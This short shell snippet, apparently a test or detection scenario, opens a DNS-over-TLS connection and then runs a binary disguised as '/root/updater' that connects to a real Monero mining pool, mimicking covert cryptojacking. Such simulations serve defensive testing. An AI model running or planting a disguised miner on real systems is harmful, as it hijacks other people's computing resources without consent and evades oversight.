# A TLS client connects to a resolver (DNS over TLS). Then a program resolves the name of a known pool and stays
# connected to the pool.
timeout 3 openssl s_client -connect 198.51.100.53:853 </dev/null >/dev/null 2>&1
/root/updater idle xmr.pool.supportxmr.com 7000 3
